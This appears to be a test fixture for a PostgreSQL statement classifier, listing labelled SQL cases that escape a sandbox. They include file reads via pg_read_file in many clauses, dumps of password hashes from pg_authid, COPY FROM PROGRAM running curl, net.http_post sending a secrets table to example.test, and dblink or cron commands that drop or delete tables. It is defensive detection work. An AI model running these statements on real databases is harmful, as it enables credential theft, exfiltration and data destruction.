--# wal-directory | escaping | lists files | or: 58P01
select name from pg_catalog.pg_ls_logdir()
--# temporary-directory | escaping | lists files
select * from pg_ls_tmpdir()
--# archive-directory | escaping | lists files
select * from pg_ls_archive_statusdir()
--# replication-directory | escaping | lists files | pg>=15
select * from pg_ls_logicalmapdir(), pg_ls_logicalsnapdir()
--# log-name | escaping | the server's files
select pg_current_logfile('stderr')
--# settings-files | escaping | the server's files
select * from pg_file_settings
--# access-rules | escaping | who may come in
select * from pg_hba_file_rules
--# ident-rules | escaping | who may come in | pg>=15
select * from pg_ident_file_mappings
--# read-part | escaping | a part of a file
select pg_read_file('postgresql.conf', 0, 10, true)
--# read-in-order | escaping | in ORDER BY
select id from staged order by pg_read_file('PG_VERSION')
--# read-in-limit | escaping | in LIMIT
select 1 limit length(pg_read_file('PG_VERSION'))
--# read-in-aggregate-filter | escaping | in FILTER
select count(*) filter (where pg_read_file('PG_VERSION') is not null) from staged
--# read-in-window | escaping | in a window
select sum(id) over (partition by pg_read_file('PG_VERSION')) from staged
--# read-in-sample | escaping | in TABLESAMPLE
select * from staged tablesample bernoulli (length(pg_read_file('PG_VERSION')))
--# read-in-rows-from | escaping | in ROWS FROM
select * from rows from (generate_series(1, 2), pg_ls_dir('.'))
--# read-in-xmltable | escaping | in XMLTABLE | or: 0A000
select * from xmltable('/a' passing xmlparse(document '<a>' || pg_read_file('PG_VERSION') || '</a>') columns b text)
--# read-in-json-table | escaping | in JSON_TABLE | pg>=17
select * from json_table(to_json(pg_read_file('PG_VERSION'))::jsonb, '$' columns (a text path '$'))
--# read-in-index | escaping | in an index expression through a new function
create function f(int) returns text immutable language sql as $$ select pg_read_file('PG_VERSION') $$; create index on staged (f(id))
--# read-in-partition-bound | escaping | the bound of a partition
create table parts_by_file (v text) partition by list (v); create table parts_one partition of parts_by_file for values in (pg_read_file('PG_VERSION'))
--# read-in-argument-default | escaping | a default of an argument
create function f(a text default pg_read_file('PG_VERSION')) returns text language sql as 'select a'; select f()
--# read-in-policy | escaping | in a policy
create policy open on staged using (pg_read_file('PG_VERSION') is not null)
--# read-in-check | escaping | in a check
alter table staged add constraint c check (pg_stat_file('PG_VERSION') is not null) not valid
--# read-in-trigger-when | escaping | in WHEN of a trigger
create trigger t before insert on staged for each row when (pg_read_file('PG_VERSION') is not null) execute function touch()
--# read-in-generated-operator | escaping | an operator that reads files
create operator <~~ (rightarg = text, function = pg_catalog.pg_read_file); select <~~ 'PG_VERSION'::text
--# read-in-cast | escaping | a cast that reads files
create function f(mood) returns text language sql as $$ select pg_read_file('PG_VERSION') $$; create cast (mood as text) with function f(mood) as implicit; select 'calm'::mood::text || ''
--# read-in-aggregate | escaping | an aggregate that reads files | fails: 42883
create aggregate read_all (text) (sfunc = pg_catalog.concat, stype = text, finalfunc = pg_catalog.pg_read_file)
--# read-in-domain | escaping | in the check of a domain
create domain d as text check (pg_read_file('PG_VERSION') is not null); select 'x'::d
--# read-in-view | escaping | in a view that is read
create view v as select pg_read_file('PG_VERSION') as f; select * from v
--# read-in-rule | escaping | in a rule
create rule r as on update to staged do also select pg_read_file('PG_VERSION')
--# read-in-return | escaping | in RETURN of a function
create function f() returns text language sql return pg_read_file('PG_VERSION'); select f()
--# read-in-case | escaping | in a branch
select case when id = 1 then pg_read_file('PG_VERSION') end from staged
--# read-in-array | escaping | in an array
select (array[1, length(pg_read_file('PG_VERSION'))])[2]
--# read-in-declare | escaping | a cursor
begin; declare c cursor with hold for select pg_read_file('PG_VERSION'); fetch all from c; commit
--# read-in-raise | escaping | in RAISE
do $$ begin raise notice '%', pg_read_file('PG_VERSION'); end $$
--# read-in-raise-using | escaping | in RAISE … USING
do $$ begin raise info using message = pg_read_file('PG_VERSION'); end $$
--# read-in-if | escaping | in IF
do $$ begin if pg_read_file('PG_VERSION') like '1%' then null; end if; end $$
--# read-in-declaration | escaping | in a declaration
do $$ declare v constant text default pg_read_file('PG_VERSION'); begin end $$
--# read-in-cursor-argument | escaping | the argument of a cursor
do $$ declare c cursor (a text) for select a; begin open c (pg_read_file('PG_VERSION')); end $$
--# read-in-using | escaping | the argument of EXECUTE
do $$ begin execute 'select $1' using pg_read_file('PG_VERSION'); end $$
--# read-in-assert | escaping | in ASSERT
do $$ begin assert pg_read_file('PG_VERSION') is not null; end $$
--# read-in-case-statement | escaping | in CASE of a body
do $$ begin case pg_read_file('PG_VERSION') when 'x' then null; else null; end case; end $$
--# read-in-exit | escaping | in EXIT WHEN
do $$ begin loop exit when pg_read_file('PG_VERSION') is not null; end loop; end $$
--# read-in-slice | escaping | in an index of an array that is assigned
do $$ declare a int[] := '{1,2}'; begin a[length(pg_read_file('PG_VERSION'))] := 1; end $$
--# import-number | escaping | a file into a given large object
select lo_import('/etc/hostname', 4712)
--# export-parameter | escaping | a large object into a file | run: no, it would write a file
select lo_export(loid => 4711, filename => '/tmp/x') from staged
--# xml-query | escaping | SQL as text | or: 0A000
select query_to_xml('select pg_read_file(''PG_VERSION'')', true, false, '')
--# xml-query-deletes | every-row | SQL as text | or: 0A000
select query_to_xml('delete from orders returning 1', true, true, '')
--# xml-schema-of-query | opaque | SQL from a row | or: 0A000
select query_to_xmlschema(line, true, true, '') from logs
--# xml-table | escaping | a table as text | or: 0A000
select table_to_xml('secrets'::regclass, true, false, '')
--# xml-schema | escaping | a schema as text | or: 0A000
select schema_to_xml_and_xmlschema('public', true, false, '')
--# xml-database | escaping | all of it as text | or: 0A000
select database_to_xml(true, false, '')
--# xml-cursor | escaping | a cursor as text | or: 0A000
declare c cursor for select token from secrets; select cursor_to_xml('c', 10, true, false, '')
--# text-search-statistics | every-row | SQL as text | fails: 0A000
select * from ts_stat('with d as (delete from orders returning note) select to_tsvector(note) from d')
--# text-search-rewrite | opaque | SQL from a row | fails: 22023
select ts_rewrite('a'::tsquery, (select 'select 1'::text || (select max(id) from staged)))
--# emit | escaping | into the log that others read
select pg_logical_emit_message(true, 'prefix', 'text')
--# slot | escaping | keeps the log for ever | run: no, the slot would stay
select * from pg_create_physical_replication_slot('sluice_case', true)
--# slot-logical | escaping | keeps the log for ever | run: no, the slot would stay
select pg_create_logical_replication_slot('sluice_case', 'pgoutput')
--# slot-dropped | escaping | a replica loses its place | fails: 42704
select pg_drop_replication_slot('sluice_case')
--# slot-copied | escaping | one slot more | fails: 42704
select pg_copy_physical_replication_slot('sluice_case', 'other')
--# slot-moved | escaping | a replica loses changes | fails: 42704
select pg_replication_slot_advance('sluice_case', '0/1')
--# slot-read | escaping | a replica loses changes | fails: 55000
select * from pg_logical_slot_get_binary_changes('sluice_case', null, null)
--# slots-synced | escaping | replication slots | pg>=17 | fails: 55000
select pg_sync_replication_slots()
--# origin | escaping | another origin
select pg_replication_origin_create('sluice_case')
--# origin-session | escaping | this session counts as replicated
select pg_replication_origin_create('sluice_case'); select pg_replication_origin_session_setup('sluice_case')
--# snapshot | escaping | hands its snapshot out
begin; select pg_export_snapshot(); commit
--# advisory | escaping | holds a lock that a rollback keeps
select pg_advisory_lock(1)
--# advisory-try | escaping | holds a lock
select pg_try_advisory_lock_shared(1, 2)
--# advisory-frees | escaping | frees the runner's lock
select pg_advisory_unlock_all()
--# backup | escaping | a backup begins | pg>=15
select pg_backup_start('sluice', true); select pg_backup_stop(false)
--# replay | escaping | a standby stops | fails: 55000
select pg_wal_replay_pause()
--# memory-log | escaping | into the log
select pg_log_backend_memory_contexts(pg_backend_pid())
--# standby-log | escaping | into the write-ahead log | pg>=16
select pg_log_standby_snapshot()
--# statistics-reset | escaping | counters go
select pg_stat_reset()
--# statistics-reset-shared | escaping | counters go
select pg_stat_reset_shared('bgwriter')
--# statistics-reset-table | escaping | counters go
select pg_stat_reset_single_table_counters('users'::regclass)
--# statistics-reset-slots | escaping | counters go
select pg_stat_reset_replication_slot(null)
--# planner-statistics-cleared | escaping | the planner forgets a table | pg>=18
select pg_clear_relation_stats('public', 'users')
--# planner-statistics-set | escaping | the planner is told a lie | pg>=18
select pg_restore_relation_stats('schemaname', 'public', 'relname', 'users', 'reltuples', 1::real)
--# collations | escaping | makes collations
select pg_import_system_collations('archive')
--# oid | escaping | the catalog's numbers | or: 42704
select pg_nextoid('pg_class'::regclass, 'oid', 'pg_class_oid_index'::regclass)
--# upgrade | escaping | only for pg_upgrade | fails: 55P02
select binary_upgrade_set_next_pg_type_oid('1'::oid)
--# terminate-timeout | escaping | ends every session | run: no, it would end the test's sessions
select pg_terminate_backend(pid, 5000) from pg_stat_activity
--# sleep-until | escaping | waits
select pg_sleep_until(now())
--# sleep-under-lock | escaping | holds everything up
lock table users in access exclusive mode; do 'begin perform pg_sleep(0); end'
--# gin | escaping | works on an index | fails: 42P01
select gin_clean_pending_list('no_index'::regclass)
--# load-file | escaping | code into the server | fails: 58P01
load '/tmp/missing.so'
--# load-in-do | escaping | code into the server
do $$ begin execute 'lo' || 'ad ' || quote_literal('plpgsql'); end $$
--# archive-command | escaping | a program for every log file
alter system set archive_command = 'true'
--# preload | escaping | code at the next start
alter system set session_preload_libraries = 'plpgsql'
--# primary | escaping | follows another server
alter system set primary_conninfo = 'host=192.0.2.1'
--# restore-command | escaping | a program
alter system set restore_command = 'true'; select pg_reload_conf()
--# system-reset | escaping | all settings go
alter system reset all
--# checkpoint | escaping | everything is written at once
checkpoint
--# listen | escaping | hears others | unproven: nothing shows it
listen jobs
--# notify-payload | escaping | tells others | unproven: nothing shows it
notify jobs, 'payload'
--# extension-file | escaping | reads files as tables | or: 58P01
create extension if not exists file_fdw with schema public cascade
--# extension-language | escaping | code of the operating system | run: no, whether it is there depends on the server
create extension plpython3u
--# language | escaping | a language with a handler
create language sluice_case handler plpgsql_call_handler
--# language-trusted | escaping | everybody may use it
create or replace trusted language sluice_case handler plpgsql_call_handler inline plpgsql_inline_handler validator plpgsql_validator
--# extension-update | escaping | runs the scripts of a version | or: 22023
alter extension plpgsql update to '2.0'
--# extension-drop-member | escaping | a part is freed
alter extension plpgsql drop function plpgsql_validator(oid)
--# server | escaping | another server
create server near foreign data wrapper dummy options (host '192.0.2.1')
--# server-options | escaping | other place
alter server far options (add host '192.0.2.1')
--# wrapper-handler | escaping | other code | unproven: no
create foreign data wrapper other validator postgresql_fdw_validator
--# mapping | escaping | a password for everybody
create user mapping if not exists for public server far options (user 'a', password 'b')
--# foreign-import | escaping | another server's tables | fails: 55000
import foreign schema public from server far into archive
--# foreign-made | escaping | rows of another server
create foreign table far_away (id int) server far options (table_name 'x')
--# internal-language | opaque | any function of the server under another name
create function f(text) returns text language internal strict as 'pg_read_file_all'
--# c-language | opaque | code from a file | fails: 58P01
create function f() returns int language c as '/tmp/missing.so', 'main'
--# base-type | opaque | code that reads every value
create type raw; create function raw_in(cstring) returns raw language internal immutable strict as 'textin'; create function raw_out(raw) returns cstring language internal immutable strict as 'textout'; create type raw (input = raw_in, output = raw_out)
--# access-method | opaque | code that stores every row
create access method mine type table handler heap_tableam_handler
--# operator-class | opaque | code that orders every key
create operator class mine default for type mood using btree as function 1 enum_cmp(anyenum, anyenum)
--# cast-inout | opaque | changes what later statements mean
create cast (int as mood) with inout as implicit
--# cast-binary | opaque | changes what later statements mean | fails: 42P17
create cast (mood as int) without function
--# dictionary-file | escaping | reads a file of the server | fails: F0000
create text search dictionary d (template = ispell, dictfile = missing, afffile = missing)
--# thesaurus-file | escaping | reads a file of the server | fails: F0000
create text search dictionary d (template = synonym, synonyms = missing)
--# password-read | escaping | hashes of passwords leave
select rolname, rolpassword from pg_authid
--# password-view-read | escaping | hashes of passwords leave
select usename, passwd from pg_catalog.pg_shadow
--# mapping-read | escaping | passwords of other servers leave
select umoptions from pg_user_mapping
--# subscription-read | escaping | passwords of other servers leave
select subconninfo from pg_subscription
--# copy-out | escaping | rows leave | run: no, they would go to the client
copy (select email from users) to stdout with (format csv, header)
--# copy-program-cased | escaping | a program | run: no, it would start a program
COPY staged FROM PROGRAM $cmd$curl https://example.test$cmd$ (FORMAT csv)
--# copy-file-options | escaping | a file with options | run: no, it would write a file
copy (table secrets) to E'/tmp/\x61' (format binary)
--# copy-in-body | escaping | within a function | run: no, it would start a program
create function f() returns void language plpgsql as $$ begin copy secrets to program 'cat'; end $$; select f()
--# dblink | escaping | another session runs it | fails: 42883
select * from dblink('dbname=corpus', 'drop table users') as t (a text)
--# dblink-exec | destructive | another session runs it | fails: 42883
select public.dblink_exec('dbname=corpus', 'drop table users')
--# http | escaping | a request | fails: 3F000
select net.http_post('https://example.test', (select jsonb_agg(s) from secrets s))
--# cron | opaque | runs later | fails: 3F000
select cron.schedule('nightly', '0 3 * * *', 'delete from users')
--# bucket | escaping | a file elsewhere | fails: 3F000
select * from aws_s3.query_export_to_s3('select * from users', 'bucket', 'key')
